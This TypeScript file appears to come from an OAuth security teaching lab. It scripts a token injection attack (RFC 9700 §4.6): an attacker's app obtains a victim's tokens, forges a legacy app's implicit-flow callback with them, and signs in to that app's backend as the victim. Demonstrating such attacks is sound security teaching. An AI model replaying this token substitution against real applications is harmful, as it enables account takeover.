import { fromPromise } from 'xstate';
import type { Outcome } from '@/lib/attack-lab/verdict';
import { frontChannelExchange, recordFetch } from '@/lib/http-trace/record';
import { buildAuthorizationUrl } from '@/lib/oauth-client/authorization-request';
import type { Check } from '@/lib/oauth-client/checklist';
import type { ServerMetadata } from '@/lib/oauth-client/discovery';
import { makeCodeVerifier, makeRandomValue, s256ChallengeSteps } from '@/lib/oauth-client/pkce';
import { fail, ok } from '@/lib/oauth-client/result';
import { authorizationCodeRequest } from '@/lib/oauth-client/token-requests';
import { processTokenResponse, type TokenSet } from '@/lib/oauth-client/token-response';
import type { RealmDescriptor } from '@/lib/realms/descriptor';
import { discover } from '@/machines/shared';
import { validateImplicitCallback } from '../implicit.response';
import { networkFailure, type StepInput, type StepOutput } from '../step-output';

/**
 * Token injection (RFC 9700 §4.6, RFC 6749 §10.16), Mallory's side and the legacy app's: her quiz
 * app gets a token from Alice, she swaps it into the legacy app's callback in her own browser, and
 * the app's page hands it to its backend to sign in. Every request is real and recorded.
 */

/** Mallory's registered app (lib/realms/lab-users.ts) and what it asks Alice for: enough to say who she is. */
export const QUIZ_CLIENT = 'mallory-quiz';
export const QUIZ_SCOPE = 'openid profile';
const LEGACY_CLIENT = 'legacy-spa';

export interface QuizRequest {
  metadata: ServerMetadata;
  authUrl: string;
  redirectUri: string;
  state: string;
  nonce: string;
  verifier: string;
}

/** Her app reads discovery and sends Alice to sign in: an ordinary code + PKCE request (RFC 6749 §4.1.1, RFC 7636 §4.3). */
export async function quizRequest(step: string, origin: string, realm: RealmDescriptor): Promise<StepOutput<QuizRequest>> {
  const found = await discover(realm.issuer, step, 'attacker');
  if (!found.result.ok) return { ...found, result: found.result };
  const metadata = found.result.value;
  const verifier = makeCodeVerifier();
  const { challenge } = await s256ChallengeSteps(verifier);
  const state = makeRandomValue();
  const nonce = makeRandomValue();
  const redirectUri = `${origin}/flows/callback`;
  const { url } = buildAuthorizationUrl(metadata.authorization_endpoint, {
    clientId: QUIZ_CLIENT,
    redirectUri,
    scope: QUIZ_SCOPE,
    state,
    nonce,
    codeChallenge: challenge,
  });
  return {
    ...found,
    facts: [
      { label: 'client_id', value: `${QUIZ_CLIENT} (Mallory’s registered app)` },
      { label: 'scope', value: QUIZ_SCOPE },
    ],
    result: ok({ metadata, authUrl: url, redirectUri, state, nonce, verifier }),
  };
}

/** Her app redeems Alice's code with its verifier (RFC 6749 §4.1.3): the tokens are Alice's, issued to mallory-quiz. */
export async function quizRedeem(step: string, quiz: QuizRequest, code: string): Promise<StepOutput<TokenSet>> {
  try {
    const request = authorizationCodeRequest(
      quiz.metadata.token_endpoint,
      { clientId: QUIZ_CLIENT, method: 'none' },
      { code, redirectUri: quiz.redirectUri, codeVerifier: quiz.verifier },
    );
    const { exchange, response, body } = await recordFetch(request, { step, from: 'attacker', to: 'as' });
    const tokens = processTokenResponse(response.status, body);
    if (!tokens.ok) return { step, exchanges: [exchange], result: tokens };
    const facts = [
      { label: 'access token issued to', value: QUIZ_CLIENT },
      { label: 'ID token', value: tokens.value.id_token ? `aud = ${QUIZ_CLIENT}` : '(none)' },
    ];
    return { step, exchanges: [exchange], facts, result: ok(tokens.value) };
  } catch (e) {
    return networkFailure(step, e);
  }
}

export interface Injected {
  callbackUrl: string;
  accessToken: string;
  idToken?: string;
}

/**
 * In her own browser Mallory starts the legacy app's sign-in (the app makes a `state` for her
 * session) and makes up the authorization response herself, with Alice's tokens in the fragment:
 * RFC 9700 §4.6, "or directly makes up an authorization server response including the leaked access
 * token". The page's own checks pass: the `state` is the one it gave her, the `iss` is right.
 */
export async function injectIntoCallback(
  step: string,
  origin: string,
  realm: RealmDescriptor,
  tokens: TokenSet,
): Promise<StepOutput<Injected>> {
  const state = makeRandomValue();
  const fragment = new URLSearchParams({ access_token: tokens.access_token, token_type: 'Bearer', state, iss: realm.issuer });
  if (tokens.expires_in !== undefined) fragment.set('expires_in', String(tokens.expires_in));
  if (tokens.id_token) fragment.set('id_token', tokens.id_token);
  const callbackUrl = `${origin}/flows/callback#${fragment}`;
  const { checks, result } = validateImplicitCallback(callbackUrl, { state, issuer: realm.issuer, issRequired: true });
  const exchange = frontChannelExchange({ step, from: 'attacker', to: 'client' }, callbackUrl);
  if (!result.ok) return { step, exchanges: [exchange], checks, result };
  const facts = [
    { label: 'state', value: `${state} (the one ${LEGACY_CLIENT} made for her own sign-in)` },
    { label: 'access_token', value: `Alice’s, issued to ${QUIZ_CLIENT}` },
  ];
  return {
    step,
    exchanges: [exchange],
    checks,
    facts,
    result: ok({ callbackUrl, accessToken: tokens.access_token, ...(tokens.id_token ? { idToken: tokens.id_token } : {}) }),
  };
}

function asChecks(value: unknown): Check[] {
  if (!Array.isArray(value)) return [];
  return value
    .filter((c): c is Record<string, unknown> => !!c && typeof c === 'object')
    .slice(0, 20)
    .map((c) => ({
      name: String(c.name ?? ''),
      passed: c.passed === true,
      detail: String(c.detail ?? ''),
      spec: String(c.spec ?? ''),
      ...(c.outcome === 'skipped' || c.outcome === 'weakened' ? { outcome: c.outcome } : {}),
    }));
}

/**
 * The legacy app's page posts the tokens from its fragment to its own backend to sign in
 * (lib/lab-client/implicit-login.ts). The backend's answer is the Outcome: signed in as Alice, or refused.
 */
export async function clientLogin(step: string, origin: string, realm: RealmDescriptor, injected: Injected): Promise<StepOutput<Outcome>> {
  const form = new URLSearchParams({ access_token: injected.accessToken });
  if (injected.idToken) form.set('id_token', injected.idToken);
  try {
    const request = new Request(`${origin}/lab-client/${encodeURIComponent(realm.id)}/session`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' },
      body: form.toString(),
    });
    const { exchange, response, body } = await recordFetch(request, { step, from: 'attacker', to: 'client' });
    let doc: Record<string, unknown> = {};
    try {
      doc = JSON.parse(body) as Record<string, unknown>;
    } catch {
      return {
        step,
        exchanges: [exchange],
        result: fail('bad_response', `The app’s backend answered HTTP ${response.status} without JSON.`, step),
      };
    }
    const checks = asChecks(doc.checks);
    const facts = [{ label: 'HTTP status', value: String(response.status) }];
    if (response.status === 200 && doc.signed_in === true) {
      const who = String(doc.sub ?? '');
      facts.push({ label: 'signed in as', value: `${who} (${String(doc.name ?? '')})` });
      const outcome: Outcome =
        who === 'alice'
          ? {
              succeeded: true,
              what:
                `the legacy app’s backend signed Mallory’s browser in as Alice (sub “alice”): it asked the resource server ` +
                `whose token it was, never which client it was issued to. The token was Alice’s grant to Mallory’s quiz app ` +
                `(${QUIZ_CLIENT}), and Mallory now uses the legacy app as Alice.`,
            }
          : { succeeded: false, what: `the legacy app’s backend signed in “${who}”, not Alice.` };
      return { step, exchanges: [exchange], checks, facts, result: ok(outcome) };
    }
    const why = typeof doc.error_description === 'string' ? doc.error_description : `HTTP ${response.status}`;
    return {
      step,
      exchanges: [exchange],
      checks,
      facts,
      result: ok({
        succeeded: false,
        what: `the legacy app’s backend refused to sign anyone in (HTTP ${response.status} ${String(doc.error ?? '')}): ${why} Mallory’s browser has no session, and Alice’s token for the quiz app opens nothing here.`,
      }),
    };
  } catch (e) {
    return networkFailure(step, e);
  }
}

export const quizRequestActor = fromPromise<StepOutput<QuizRequest>, StepInput<{ origin: string; realm: RealmDescriptor }>>(({ input }) =>
  quizRequest(input.step, input.origin, input.realm),
);
export const quizRedeemActor = fromPromise<StepOutput<TokenSet>, StepInput<{ quiz: QuizRequest; code: string }>>(({ input }) =>
  quizRedeem(input.step, input.quiz, input.code),
);
export const injectActor = fromPromise<StepOutput<Injected>, StepInput<{ origin: string; realm: RealmDescriptor; tokens: TokenSet }>>(
  ({ input }) => injectIntoCallback(input.step, input.origin, input.realm, input.tokens),
);
export const clientLoginActor = fromPromise<StepOutput<Outcome>, StepInput<{ origin: string; realm: RealmDescriptor; injected: Injected }>>(
  ({ input }) => clientLogin(input.step, input.origin, input.realm, input.injected),
);
